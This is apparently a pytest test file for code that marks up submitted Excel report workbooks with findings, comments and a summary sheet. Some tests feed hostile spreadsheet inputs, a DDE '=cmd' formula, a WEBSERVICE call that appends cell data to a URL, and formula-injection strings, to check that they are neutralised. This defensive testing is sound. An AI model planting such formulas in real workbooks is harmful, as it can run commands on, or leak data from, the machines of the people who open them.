"""A submitted file and its findings in, the marked workbook out: whatever the format, and whatever it holds."""

import io
from typing import Any

import pytest
import xlsxwriter
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from orchestration.feedback.mark import mark_workbook
from orchestration.feedback.severity import COLOURS
from orchestration.intake.returned import TITLE
from orchestration.intake.sheets import read_sheets
from tests.feedback.rendering_test import filled
from tests.feedback.told import finding, outcome, sheet
from tests.intake.workbooks import FORMATS, Grid, with_sheet_xml, xlsx

GRID: Grid = [["STT", "Thực hiện trong tháng"], [1, "(15)"], [2, 30]]


def marked(content: bytes, *findings: Any, path: str = "a.xlsx", rich: bool = False) -> Workbook:
    return load_workbook(
        io.BytesIO(mark_workbook(content, path, findings, outcome())), rich_text=rich
    )


def saved(book: Workbook) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize("path", FORMATS)
def test_every_format_gets_its_cell_coloured_commented_and_linked(path: str) -> None:
    content = FORMATS[path](GRID)
    name = read_sheets(path, content)[0].name
    book = marked(content, finding(sheet=name), path=path)
    assert book.sheetnames == [TITLE, name]
    cell = book[name]["B2"]
    assert (cell.value, cell.data_type) == ("(15)", "s")
    assert cell.fill.fgColor.rgb == COLOURS["reject"]
    for said in ("KC-104", "Số tiền âm", "là số âm", "Từ 0 trở lên"):
        assert said in cell.comment.text
    [link] = [c.hyperlink for row in book[TITLE] for c in row if c.hyperlink]
    assert link.location == f"'{name}'!B2"
    assert link.target is None


def test_the_first_sheet_is_in_front_alone() -> None:
    book = marked(xlsx(GRID), finding())
    assert book.active.title == TITLE
    assert [s.sheet_view.tabSelected for s in book.worksheets] == [True, False]


def test_several_findings_of_a_cell_are_one_comment_in_the_colour_of_the_worst() -> None:
    book = marked(
        xlsx(GRID),
        finding(rule_id="KC-302", severity="warn"),
        finding(),
        finding(rule_id="KC-107", cell=None, source_row=3),
    )
    cell = book["KC"]["B2"]
    assert cell.fill.fgColor.rgb == COLOURS["reject"]
    assert cell.comment.text.index("KC-104") < cell.comment.text.index("KC-302")
    assert "KC-107" in book["KC"]["A3"].comment.text


def test_a_finding_on_a_row_marks_its_first_filled_cell_one_on_a_sheet_a1() -> None:
    content = xlsx([[None, "STT"], [], [None, 1, 2]])
    book = marked(content, finding(cell=None, source_row=3), finding(cell=None, source_row=None))
    assert book["KC"]["B3"].comment
    assert book["KC"]["A1"].comment
    [*_, row, whole] = [c.value for c in book[TITLE]["E"]]
    assert {row, whole} == {"dòng 3", "cả biểu"}


def test_a_merged_cell_bears_its_comment_at_its_first_cell() -> None:
    source = Workbook()
    source.active.title = "KC"
    source.active["A2"] = "gộp"
    source.active.merge_cells("A2:C3")
    book = marked(saved(source), finding(cell="C3", source_row=3))
    assert book["KC"]["A2"].comment
    assert [str(r) for r in book["KC"].merged_cells.ranges] == ["A2:C3"]
    assert "'KC'!A2" in {c.hyperlink.location for c in book[TITLE]["E"] if c.hyperlink}


def test_the_clerks_formats_widths_hidden_rows_and_protection_are_kept() -> None:
    source = Workbook()
    kc = source.active
    kc.title = "KC"
    kc["B2"], kc["B2"].number_format = 15, "#,##0.0"
    kc.column_dimensions["B"].width = 33
    kc.row_dimensions[5].hidden = True
    kc.protection.sheet = True
    source.create_sheet("Ẩn").sheet_state = "hidden"
    book = marked(saved(source), finding())
    kc = book["KC"]
    assert (kc["B2"].value, kc["B2"].number_format) == (15, "#,##0.0")
    assert kc.column_dimensions["B"].width == 33
    assert kc.row_dimensions[5].hidden
    assert kc.protection.sheet
    assert book["Ẩn"].sheet_state == "hidden"


def test_formulas_stay_with_the_values_that_they_had() -> None:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as source:
        kc = source.add_worksheet("KC")
        kc.write_formula("A1", "=SUM(B1:B3)", value=45)
        kc.write_formula("A2", '=IF(A1>0,"có & đủ","")', value="có & đủ")
        kc.write_formula("A3", "=1/0", value="#DIV/0!")
        kc.write_formula("A4", "=A1>1", value=True)
    content = stream.getvalue()
    data = mark_workbook(content, "a.xlsx", [finding()], outcome())
    kc = load_workbook(io.BytesIO(data))["KC"]
    assert [kc[a].value for a in ("A1", "A3")] == ["=SUM(B1:B3)", "=1/0"]
    values = load_workbook(io.BytesIO(data), data_only=True)["KC"]
    assert [values[f"A{n}"].value for n in (1, 2, 3, 4)] == [45, "có & đủ", "#DIV/0!", True]
    assert filled(read_sheets("a.xlsx", data)[0]) == filled(read_sheets("a.xlsx", content)[0])


def test_what_reaches_out_of_the_workbook_becomes_the_value_that_it_had() -> None:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as source:
        kc = source.add_worksheet("KC")
        kc.write_formula("A1", "='[KH 2024.xlsx]S'!B5", value=45)
        kc.write_formula("A2", '=WEBSERVICE("http://example.org/"&B2)', value="lấy về")
        kc.write_formula("A3", "=cmd|'/c calc'!A0", value="")
        kc.write_url("A4", "http://example.org/", string="xem")
        kc.write_string("A5", "=1+1")
        kc.write_url("A6", "internal:'[khac.xlsx]S'!A1", string="xem")
        kc.write_url("A7", "internal:'KC'!B2", string="xem")
        kc.data_validation("B9", {"validate": "list", "source": "=[1]S!$A$1:$A$3"})
        kc.conditional_format("B9", {"type": "formula", "criteria": "=[1]S!$A$1>0", "format": None})
        source.define_name("Ngoai", "=[1]S!$A$1")
    book = marked(stream.getvalue(), finding())
    kc = book["KC"]
    assert (kc["A1"].value, kc["A1"].data_type) == (45, "n")
    assert (kc["A2"].value, kc["A2"].data_type) == ("lấy về", "s")
    assert kc["A3"].data_type == "s"
    assert kc["A4"].hyperlink is None
    assert kc["A6"].hyperlink is None
    assert kc["A7"].hyperlink.location == "'KC'!B2"
    assert (kc["A5"].value, kc["A5"].data_type, kc["A5"].quotePrefix) == ("=1+1", "s", True)
    assert not kc.data_validations.dataValidation
    assert not list(kc.conditional_formatting)
    assert not book.defined_names
    assert any("3 công thức" in str(c.value) for c in book[TITLE]["A"])


@pytest.mark.parametrize("evil", ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x","y")'])
def test_submitted_text_in_our_words_is_never_a_formula(evil: str) -> None:
    told = finding(sheet=evil, value=evil, expected=evil, message_vi=evil, rule_name_vi=evil)
    data = mark_workbook(
        b"", "a.xlsx", [told], outcome(sheet(sheet=evil, unit=evil), file=f"x/{evil}")
    )
    [result] = load_workbook(io.BytesIO(data)).worksheets
    cells = [c for row in result for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if str(c.value).startswith(tuple("=+-@")))
    assert not [c for c in cells if c.hyperlink]


@pytest.mark.parametrize(
    "content", [b"", b"\xff\xd8\xff\xe0 no workbook", xlsx(GRID)[:-400], b"PK\x05\x06" + bytes(18)]
)
def test_a_file_that_can_not_be_read_gets_the_first_sheet_alone(content: bytes) -> None:
    book = marked(content, finding(sheet="", cell=None, source_row=None))
    assert book.sheetnames == [TITLE]
    texts = [str(c.value) for row in book[TITLE] for c in row]
    assert any("Không mở được tệp" in text for text in texts)
    assert "KC-104" in texts


def test_a_workbook_that_openpyxl_can_not_open_is_rendered() -> None:
    broken = with_sheet_xml(xlsx(GRID), "<sheetView ", '<sheetView view="sai" ')
    assert read_sheets("a.xlsx", broken)
    with pytest.raises(ValueError, match="Unable to read workbook"):
        load_workbook(io.BytesIO(broken))
    book = marked(broken, finding())
    assert book["KC"]["B2"].comment
    assert book["KC"]["B3"].value == 30


def test_a_workbook_too_large_for_marks_gets_the_list_alone(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("orchestration.feedback.mark.LARGEST_SHEETS_BYTES", 10)
    book = marked(xlsx(GRID), finding())
    assert book.sheetnames == [TITLE]
    assert any("quá lớn" in str(c.value) for c in book[TITLE]["A"])


def test_more_findings_than_anybody_reads_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("orchestration.feedback.mark.MOST_FINDINGS", 3)
    book = marked(xlsx(GRID), *[finding(source_row=n, cell=f"B{n}") for n in range(1, 11)])
    assert any("Còn 7 phát hiện" in str(c.value) for c in book[TITLE]["A"])
    assert not book["KC"]["B4"].comment


def test_a_workbook_that_comes_back_is_marked_anew() -> None:
    first = mark_workbook(xlsx(GRID), "a.xlsx", [finding(), finding(cell="A3")], outcome())
    returned = load_workbook(io.BytesIO(first))
    returned["KC"]["B2"] = 15
    book = marked(saved(returned), finding(cell="A3"))
    assert book.sheetnames == [TITLE, "KC"]
    assert book["KC"]["B2"].comment is None
    assert book["KC"]["B2"].fill.fill_type is None
    assert book["KC"]["A3"].comment.text.count("KC-104") == 1


def test_a_comment_of_the_clerk_is_kept_below_ours() -> None:
    source = load_workbook(io.BytesIO(xlsx(GRID)))
    source["KC"]["B2"].comment = Comment("đã hỏi anh Ba", "clerk")
    book = marked(saved(source), finding())
    assert book["KC"]["B2"].comment.text.endswith("đã hỏi anh Ba")
    assert book["KC"]["B2"].comment.text.startswith("KC-104")


def test_a_cell_beyond_the_sheet_is_told_on_the_sheet() -> None:
    book = marked(xlsx(GRID), finding(cell="ZZZZ9999999"), finding(cell="không rõ"))
    assert book["KC"]["A1"].comment.text.count("KC-104") == 2


def test_a_sheet_that_the_workbook_has_not_is_listed_without_link() -> None:
    book = marked(xlsx(GRID), finding(sheet="Trang khác"))
    assert not [c for row in book[TITLE] for c in row if c.hyperlink]
    assert "Trang khác" in [c.value for c in book[TITLE]["D"]]
